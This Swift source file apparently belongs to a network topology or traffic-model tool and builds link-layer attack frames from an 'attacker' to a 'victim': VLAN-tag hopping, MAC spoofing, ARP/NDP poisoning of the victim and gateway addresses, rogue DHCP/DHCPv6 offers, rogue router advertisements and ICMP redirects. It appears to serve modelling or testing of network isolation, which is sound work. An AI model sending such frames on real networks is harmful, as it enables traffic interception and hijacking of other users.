internal import Frames
internal import TopologyModel

/// The frames of each kind.
extension Attacks {
  /// To all, and to the victim alone: as a question, and as a packet where both have addresses.
  func tagged(
    _ tags: [UInt16], _ attacker: TrafficPeer, _ victim: TrafficPeer
  ) -> [TrafficFrame] {
    let question = self.question(attacker, victim)
    var frames = [
      frame(attacker, to: .broadcast, tags: tags, question),
      frame(attacker, to: victim.mac, tags: tags, question),
    ]
    if let packet = packet(attacker, victim) {
      frames.append(frame(attacker, to: victim.mac, tags: tags, .packet(packet)))
    }
    return frames
  }

  func serviceTagged(
    _ tag: UInt16, _ attacker: TrafficPeer, _ victim: TrafficPeer
  ) -> [TrafficFrame] {
    [.broadcast, victim.mac].map { destination in
      TrafficFrame(
        sender: attacker.endpoint,
        octets: FrameBuilder(
          destination: destination, source: attacker.mac,
          tags: [FrameTag(vlan: tag, etherType: .serviceTag)],
          payload: question(attacker, victim), minimumOctets: FrameBuilder.shortestOctets + 4
        ).octets)
    }
  }

  /// From an address that is not the attacker's.
  func spoofed(
    _ source: MACAddress, _ attacker: TrafficPeer, _ victim: TrafficPeer
  ) -> [TrafficFrame] {
    let others = peers.all.filter { $0.endpoint != attacker.endpoint && $0.mac != source }
    return [MACAddress.broadcast, others.first?.mac ?? victim.mac].map { destination in
      frame(
        attacker, from: source, to: destination, tags: [], question(attacker, victim))
    }
  }

  /// Claims the victim's address, and its router's, before it and before all.
  func poisoned(_ attacker: TrafficPeer, _ victim: TrafficPeer) -> [TrafficFrame] {
    var frames: [TrafficFrame] = []
    for bitWidth in [32, 128] {
      guard let own = attacker.address(bitWidth: bitWidth) else { continue }
      var claimed = [victim.address(bitWidth: bitWidth)].compactMap(\.self)
      if let gateway = peers.gateway(of: victim, by: victim.ways[0], to: own) {
        claimed += gateway.subnets.map(\.address).filter { $0.bitWidth == bitWidth }.prefix(1)
      }
      for address in claimed {
        guard
          let octets = Neighbors.answer(
            from: attacker, by: attacker.ways[0], to: victim, bitWidth: bitWidth,
            claiming: address)
        else { continue }
        frames.append(TrafficFrame(sender: attacker.endpoint, octets: octets))
      }
    }
    return frames
  }

  /// An offer of DHCP (RFC 2131 §2) and an advertisement of DHCPv6 (RFC 8415 §8).
  func leases(_ attacker: TrafficPeer, _ victim: TrafficPeer) -> [TrafficFrame] {
    let source = attacker.address(bitWidth: 32) ?? .v4(IPv4Address(rawValue: 0))
    var offer: [UInt8] = [2, 1, 6, 0, 0, 0, 0, 1, 0, 0, 0, 0]
    offer += [UInt8](repeating: 0, count: 16)
    offer.append(bigEndian: victim.mac)
    offer += [UInt8](repeating: 0, count: 10 + 192)
    // The magic cookie, message type 2, the end.
    offer += [0x63, 0x82, 0x53, 0x63, 53, 1, 2, 255]
    let everyone = IPAddress.v4(IPv4Address(rawValue: .max))
    let v4 = IPPacket(
      source: source, destination: everyone,
      content: .udp(sourcePort: 67, destinationPort: 68, data: offer))
    let v6 = IPPacket(
      source: linkLocal(attacker), destination: linkLocal(victim),
      content: .udp(sourcePort: 547, destinationPort: 546, data: [2, 0, 0, 1]))
    return [(v4, MACAddress.broadcast), (v4, victim.mac), (v6, victim.mac)].compactMap {
      packet, destination in
      packet.map { frame(attacker, to: destination, tags: [], .packet($0)) }
    }
  }

  /// To all nodes (RFC 4861 §4.2), and ICMP's own advertisement (RFC 1256).
  func advertisements(_ attacker: TrafficPeer) -> [TrafficFrame] {
    // Hop limit 64, no flags, a lifetime of half an hour.
    let body: [UInt8] = [64, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0]
    let v6 = Neighbors.packet(
      linkLocal(attacker), .v6(IPv6Address(high: 0xFF02 << 48, low: 1)),
      .message(type: 134, body: body))
    let v4 = attacker.address(bitWidth: 32).flatMap { source -> IPPacket? in
      guard case .v4(let own) = source else { return nil }
      var advertised: [UInt8] = [1, 2, 0x07, 0x08]
      advertised.append(bigEndian: own.rawValue)
      return IPPacket(
        source: source, destination: .v4(IPv4Address(rawValue: 0xE000_0001)),
        content: .message(type: 9, body: advertised + [0, 0, 0, 0]), hopLimit: 1)
    }
    let groups = [(v6, 0x3333_0000_0001), (v4, 0x0100_5E00_0001)] as [(IPPacket?, UInt64)]
    return groups.compactMap { packet, group in
      packet.map { frame(attacker, to: MACAddress(truncating: group), tags: [], .packet($0)) }
    }
  }

  /// A better way that is none: ICMP type 5, ICMPv6 type 137 (RFC 792, RFC 4861 §4.5).
  func redirects(_ attacker: TrafficPeer, _ victim: TrafficPeer) -> [TrafficFrame] {
    var frames: [TrafficFrame] = []
    if case .v4(let own) = attacker.address(bitWidth: 32),
      let target = victim.address(bitWidth: 32)
    {
      var body: [UInt8] = []
      body.append(bigEndian: own.rawValue)
      // The packet that the redirect is about.
      body +=
        IPPacket(source: target, destination: target, content: .echoRequest(identifier: 1))
        .map { quoted in
          FrameBuilder(
            destination: .zero, source: .zero, payload: .packet(quoted), minimumOctets: 0
          ).octets.dropFirst(14)
        } ?? []
      if let packet = IPPacket(
        source: .v4(own), destination: target, content: .message(type: 5, code: 1, body: body))
      {
        frames.append(frame(attacker, to: victim.mac, tags: [], .packet(packet)))
      }
    }
    if case .v6(let own) = linkLocal(attacker), case .v6(let target) = linkLocal(victim) {
      var body: [UInt8] = [0, 0, 0, 0]
      body.append(bigEndian: own)
      body.append(bigEndian: target)
      if let packet = Neighbors.packet(.v6(own), .v6(target), .message(type: 137, body: body)) {
        frames.append(frame(attacker, to: victim.mac, tags: [], .packet(packet)))
      }
    }
    return frames
  }

  // MARK: Contents

  private func question(_ attacker: TrafficPeer, _ victim: TrafficPeer) -> FrameBuilder.Payload {
    guard case .v4(let own) = attacker.address(bitWidth: 32),
      case .v4(let target) = victim.address(bitWidth: 32)
    else { return .octets(.probe, [5]) }
    return .arp(
      ARPMessage(.request, sender: attacker.mac, senderIP: own, targetIP: target))
  }

  private func packet(_ attacker: TrafficPeer, _ victim: TrafficPeer) -> IPPacket? {
    for bitWidth in [32, 128] {
      guard let own = attacker.address(bitWidth: bitWidth),
        let target = victim.address(bitWidth: bitWidth)
      else { continue }
      return IPPacket(source: own, destination: target, content: .echoRequest(identifier: 7))
    }
    return nil
  }

  /// The address of a link that follows from the MAC address (RFC 4291 appendix A).
  private func linkLocal(_ peer: TrafficPeer) -> IPAddress {
    let mac = peer.mac.rawValue ^ 0x0200_0000_0000
    return .v6(
      IPv6Address(
        high: 0xFE80 << 48, low: (mac >> 24) << 40 | 0xFF_FE00_0000 | mac & 0xFF_FFFF))
  }
}
